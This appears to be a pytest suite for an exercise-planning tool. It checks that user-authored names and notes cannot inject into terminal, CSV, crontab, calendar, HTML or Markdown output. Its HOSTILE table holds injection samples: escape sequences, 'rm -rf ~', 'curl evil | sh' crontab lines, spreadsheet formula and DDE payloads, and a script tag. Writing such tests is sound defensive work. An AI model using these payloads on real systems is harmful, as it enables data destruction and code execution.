"""Text from a plan or catalogue author is data at every output: a table of hostile texts.

The gates (catalogue and plan schemas) refuse control characters and line breaks where
they do not belong; each output then also defends itself, for records that got in before
(an older history file) or were built without a gate.
"""

import csv
import io
import json
import re
from datetime import UTC, date, datetime, time
from pathlib import Path

import pytest
from helpers.catalogue import exercise_yaml
from helpers.prescription import small_catalogue
from hypothesis import given, settings
from hypothesis import strategies as st
from icalendar import Calendar
from rich.text import Text

from backex.catalogue.exercise import Dose
from backex.catalogue.loader import load_catalogue
from backex.cli import app
from backex.documents.handout import build_handout
from backex.documents.handout_render import render_html, render_markdown
from backex.documents.reminders import ReminderSchedule, render_crontab, render_ics
from backex.errors import CatalogueError
from backex.history.export import log_csv
from backex.history.records import ExerciseEntry, SessionRecord
from backex.planning.plan import Block, Plan, PlannedItem
from backex.prescription.loader import load_prescription
from backex.prescription.model import Frequency, FrequencyKind
from backex.ui.catalogue_view import exercise_card
from backex.ui.output import SafeConsole

HOSTILE = {
    "escape sequences": "Bridge\x1b]0;pwned\x07\x1b[2J",
    "C1 control": "Bridge\x9b2J",
    "line break": "Bridge\n* * * * * rm -rf ~",
    "carriage return": "Bridge\r0 * * * * curl evil | sh",
    "formula": '=HYPERLINK("http://evil.example","click")',
    "formula after a sign": "+1+cmd|' /C calc'!A0",
    "shell": 'Bob\'s "plan"; $(rm -rf ~) `id` | & > < %',
    "markup": "<script>alert(1)</script> [red]x[/red] **bold** <b>",
}
CONTROL_FREE = {"formula", "formula after a sign", "shell", "markup"}


def session_named(name: str) -> SessionRecord:
    at = datetime(2026, 3, 1, 8, 0, tzinfo=UTC)
    entry = ExerciseEntry(0, "bridge", Dose(reps=5), sets_done=1, reps_done=5)
    plan = {"items": [{"exercise": "bridge", "name": name}]}  # the exercise's name, too
    return SessionRecord(1, at, at, ("core",), plan, name, True, 2, 1, (entry,))


def terminal(renderable: object) -> str:
    """What a colour terminal receives (styles off, so any ESC would be the author's)."""
    console = SafeConsole(file=io.StringIO(), force_terminal=True, color_system=None, width=80)
    console.print(renderable)
    return console.file.getvalue()  # type: ignore[attr-defined]


# --- the gates --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ('"Bridge\\e]0;pwned\\a"', "name: must not contain control characters (found U+001B)"),
        ('"Bridge\\x9b2J"', "name: must not contain control characters (found U+009B)"),
        ('"Bridge\\nrm -rf ~"', "name: must be one line"),
        ('"' + "x" * 121 + '"', "name: must be at most 120 characters"),
    ],
)
def test_the_catalogue_gate_refuses_control_characters_and_breaks(
    tmp_path: Path, name: str, message: str
) -> None:
    path = tmp_path / "mine.yaml"
    path.write_text("exercises:\n" + exercise_yaml("mine", name), encoding="utf-8")
    with pytest.raises(CatalogueError) as caught:
        load_catalogue(path)
    assert str(caught.value) == f"{path}:3:5: exercises[0].{message}"


def test_prose_may_have_line_breaks_but_no_escape(tmp_path: Path) -> None:
    path = tmp_path / "mine.yaml"
    steps = '["Lie down.\\nRelax.", "Lift \\e[2J"]'
    path.write_text("exercises:\n" + exercise_yaml("mine", "Mine", steps=steps), encoding="utf-8")
    with pytest.raises(CatalogueError) as caught:
        load_catalogue(path)
    assert str(caught.value).endswith(
        "exercises[0].steps[1]: must not contain control characters (found U+001B)"
    )


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("name", '"Plan\\nx"', "name: must be one line"),
        ("prescribed_by", '"Dr\\e[2J"', "prescribed_by: must not contain control characters"),
        ("notes", '"ok\\nfine \\x07"', "notes: must not contain control characters (found U+0007)"),
    ],
)
def test_the_plan_gate_too(tmp_path: Path, field: str, value: str, message: str) -> None:
    fields = {"name": '"Plan"', "frequency": "daily", field: value}
    text = "".join(f"{k}: {v}\n" for k, v in fields.items()) + "exercises: [bridge]\n"
    path = tmp_path / "plan.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(CatalogueError) as caught:
        load_prescription(path, small_catalogue())
    assert message in str(caught.value)


# --- each output, for text that got past a gate -------------------------------------------


@pytest.mark.parametrize("kind", HOSTILE)
def test_terminal(kind: str) -> None:
    bridge = small_catalogue().get("bridge")
    hostile = HOSTILE[kind]
    from dataclasses import replace

    card = terminal(exercise_card(replace(bridge, name=hostile, steps=(hostile,)), {}))
    assert "\x1b" not in card and "\x9b" not in card and "\x07" not in card
    if kind == "escape sequences":
        assert "Bridge␛]0;pwned" in card  # shown, not obeyed (Rich itself drops the BEL)
    if kind == "markup":
        assert "[red]x[/red]" in card  # Rich markup in a name stays text


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def author_cells(rows: list[list[str]]) -> list[str]:
    """Every cell but the header and utc_offset: the offset is the program's own, always
    like +01:00 or -04:00, and written as it is so that programs read it."""
    offset = rows[0].index("utc_offset")
    assert all(re.fullmatch(r"[+-]\d\d:\d\d", row[offset]) for row in rows[1:])
    return [cell for row in rows[1:] for i, cell in enumerate(row) if i != offset]


@pytest.mark.parametrize("kind", HOSTILE)
def test_csv(kind: str) -> None:
    rows = list(csv.reader(io.StringIO(log_csv([session_named(HOSTILE[kind])]), newline="")))
    assert not any(cell.startswith(FORMULA_START) for cell in author_cells(rows))
    # The text itself is kept (a carriage return as a newline, so the row stays whole).
    for column in ("plan_name", "exercise_name"):
        cell = rows[1][rows[0].index(column)]
        assert cell.lstrip("'") == HOSTILE[kind].replace("\r", "\n")


@pytest.mark.parametrize("kind", HOSTILE)
def test_crontab(kind: str) -> None:
    schedule = ReminderSchedule(times=(time(8), time(13)), title=HOSTILE[kind])
    lines = render_crontab(schedule, uid=1000).splitlines()
    commands = [line for line in lines if not line.startswith("#")]
    assert commands == [
        "0 8 * * * notify-send backex 'Time for your back exercises: backex routine'",
        "0 13 * * * notify-send backex 'Time for your back exercises: backex routine'",
    ]
    assert len(lines) == 6 + 2  # the comment block and one line per time


@pytest.mark.parametrize("kind", HOSTILE)
def test_icalendar(kind: str) -> None:
    schedule = ReminderSchedule(times=(time(8),), title=HOSTILE[kind], detail=HOSTILE[kind])
    raw = render_ics(schedule, start=date(2026, 3, 2), now=datetime(2026, 3, 1, tzinfo=UTC))
    assert "\x1b" not in raw and "\x07" not in raw
    (event,) = Calendar.from_ical(raw).walk("VEVENT")
    summary = str(event["SUMMARY"])
    if kind in CONTROL_FREE:
        assert summary == HOSTILE[kind]


def handout_named(name: str) -> tuple[str, str]:
    bridge = small_catalogue().get("bridge")
    item = PlannedItem(bridge, bridge.dose, Block.MAIN, 60, note=name)
    plan = Plan((item,))
    handout = build_handout(
        plan, Frequency(FrequencyKind.DAILY), title=name, issued=date(2026, 3, 2), notes=name
    )
    return render_html(handout), render_markdown(handout)


@pytest.mark.parametrize("kind", HOSTILE)
def test_html_and_markdown(kind: str) -> None:
    from markdown_it import MarkdownIt

    html, markdown = handout_named(HOSTILE[kind])
    assert "<script>alert" not in html and "\x1b" not in html
    if kind == "markup":
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    rendered = MarkdownIt("commonmark").render(markdown)
    assert "<script>" not in rendered and "\x1b" not in markdown
    assert "<b>" not in rendered


def test_a_hostile_name_in_the_cli_history_csv(isolated_home: Path) -> None:
    from typer.testing import CliRunner

    from backex.history.store import History, SessionRecorder

    with History.open() as store:
        recorder = SessionRecorder(store)
        recorder.start({}, ["core"], 2, HOSTILE["formula"])
        recorder.finish(completed=True)
    result = CliRunner().invoke(app, ["history", "--csv"])
    assert result.exit_code == 0, result.output
    assert f",\"'{HOSTILE['formula'][:11]}" in result.stdout or "'=HYPERLINK" in result.stdout
    assert json.loads(CliRunner().invoke(app, ["history", "--json"]).stdout)["sessions"]


# --- properties ---------------------------------------------------------------------------


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_no_text_makes_more_crontab_lines_than_the_schedule_asks(name: str) -> None:
    schedule = ReminderSchedule(times=(time(8), time(19)), title=name, command=f"backex {name}")
    text = render_crontab(schedule, uid=1000)
    lines = text.splitlines()
    assert len(lines) == 8 and text.count("\n") == 8
    assert sum(not line.startswith("#") for line in lines) == 2


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_no_text_makes_a_csv_cell_that_starts_a_formula(name: str) -> None:
    rows = list(csv.reader(io.StringIO(log_csv([session_named(name)]), newline="")))
    assert not any(cell.startswith(FORMULA_START) for cell in author_cells(rows))


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_no_text_makes_the_terminal_receive_an_escape(name: str) -> None:
    written = terminal(Text(name))
    assert not any(c in written for c in ("\x1b", "\x9b", "\x07", "\x08", "\r"))
